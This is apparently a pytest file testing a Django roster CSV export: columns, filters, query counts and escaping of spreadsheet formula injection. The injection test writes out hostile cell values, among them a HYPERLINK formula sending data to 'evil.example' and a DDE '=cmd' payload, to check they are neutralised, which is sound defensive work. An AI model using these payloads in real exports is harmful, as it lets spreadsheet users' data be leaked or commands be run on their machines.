"""The roster's CSV export: columns, readable answers, the current filters, formula injection."""

import csv
import io

import pytest
from django.urls import reverse

from tests.enrolment import roster_factories
from tests.enrolment.roster_factories import (
    ParticipantRowFactory,
    QuestionFactory,
    RosterProgramFactory,
)
from tests.factories import PersonFactory
from trellis.enrolment.models import ParticipantStatus
from trellis.enrolment.roster import PERSON_COLUMNS, csv_safe
from trellis.programs.models import QuestionKind, Role

pytestmark = pytest.mark.django_db

manager = roster_factories.manager
manager_client = roster_factories.manager_client
roster = roster_factories.roster


def export_url(program) -> str:
    return reverse("enrolment:export", args=[program.slug])


def read_csv(response) -> list[dict[str, str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = response.content.decode("utf-8-sig")  # the byte order mark is for spreadsheets
    return list(csv.DictReader(io.StringIO(text)))


def test_export_has_one_row_per_participant_with_readable_answers(manager_client, roster):
    response = manager_client.get(export_url(roster["program"]))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="career-participants-')
    assert response.content.startswith("\ufeff".encode())
    rows = read_csv(response)
    assert [row["Last name"] for row in rows] == ["Hopper", "Jackson", "Lovelace", "Turing"]
    header = list(rows[0])
    assert header == [
        *PERSON_COLUMNS,
        "How do you prefer to meet?",
        "Topics",
        "Skills you want to grow",
        "Open to relocating?",
        "Anything the managers should know?",
    ]
    grace = rows[0]
    assert grace["First name"] == "Grace"
    assert grace["Email"] == "grace.hopper@example.com"
    assert grace["Department"] == "Engineering"
    assert grace["Location"] == "Lisbon"
    assert grace["Role"] == "Mentee"
    assert grace["Status"] == "Applied (awaiting approval)"
    assert grace["Capacity"] == ""
    assert grace["Topics"] == "Career; Leadership"
    assert grace["Skills you want to grow"] == "Python; SQL"
    assert grace["How do you prefer to meet?"] == "Video call"
    assert grace["Open to relocating?"] == ""
    assert grace["Anything the managers should know?"] == (
        "I am going through a difficult reorganisation."
    )
    assert grace["Applied at"][:4].isdigit()
    ada = rows[2]
    assert ada["Role"] == "Mentor"
    assert ada["Open to relocating?"] == "No"
    assert rows[1]["Open to relocating?"] == "Yes"


def test_export_respects_the_current_filters(manager_client, roster):
    rows = read_csv(
        manager_client.get(
            export_url(roster["program"]),
            {"answer": f"{roster['skills_sought'].pk}:{roster['sql'].pk}", "status": "waitlisted"},
        )
    )
    assert [row["First name"] for row in rows] == ["Mary"]
    rows = read_csv(manager_client.get(export_url(roster["program"]), {"role": "mentor"}))
    assert [row["First name"] for row in rows] == ["Ada"]


def test_export_leaves_out_other_programs(manager_client, roster):
    rows = read_csv(manager_client.get(export_url(roster["program"])))
    assert "Olive" not in {row["First name"] for row in rows}


def test_export_escapes_cells_a_spreadsheet_would_run(manager_client, manager):
    program = RosterProgramFactory(slug="injection", managed_by=[manager])
    motto = QuestionFactory(program=program, kind=QuestionKind.SHORT_TEXT, label="=Motto")
    choice = QuestionFactory(
        program=program,
        kind=QuestionKind.SINGLE_CHOICE,
        label="Pick",
        choices=["+1 for me", "plain"],
    )
    scale = QuestionFactory(
        program=program, kind=QuestionKind.SCALE, label="Mood", scale_min=-2, scale_max=2
    )
    person = PersonFactory(
        first_name='=HYPERLINK("http://evil.example/?"&A1,"click")',
        last_name="@SUM(A1:A9)",
        title="-2+3",
        email="safe@example.com",
    )
    ParticipantRowFactory(
        program=program,
        person=person,
        role=Role.MENTOR,
        capacity=2,
        status=ParticipantStatus.APPROVED,
        answers={
            str(motto.pk): "\t=cmd|' /C calc'!A0",
            str(choice.pk): "+1 for me",
            str(scale.pk): -1,
        },
    )
    [row] = read_csv(manager_client.get(export_url(program)))
    assert row["First name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
    assert row["Last name"] == "'@SUM(A1:A9)"
    assert row["Title"] == "'-2+3"
    assert row["'=Motto"] == "'\t=cmd|' /C calc'!A0"
    assert row["Pick"] == "'+1 for me"
    assert row["Mood"] == "-1"  # our own number, not text someone typed
    assert row["Capacity"] == "2"
    assert row["Email"] == "safe@example.com"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-x", "'-x"),
        ("@here", "'@here"),
        ("\r=1", "'\r=1"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
        (3, "3"),
        (-3, "-3"),
        (True, "Yes"),
    ],
)
def test_csv_safe(value, expected):
    assert csv_safe(value) == expected


def test_export_query_count_does_not_grow_with_participants(
    manager_client, roster, django_assert_max_num_queries
):
    for _ in range(40):
        ParticipantRowFactory(
            program=roster["program"],
            answers={str(roster["skills_sought"].pk): [roster["python"].pk]},
        )
    # Session, user, program, managers, questions, skill names, the rows.
    with django_assert_max_num_queries(8):
        response = manager_client.get(export_url(roster["program"]))
    assert len(read_csv(response)) == 44
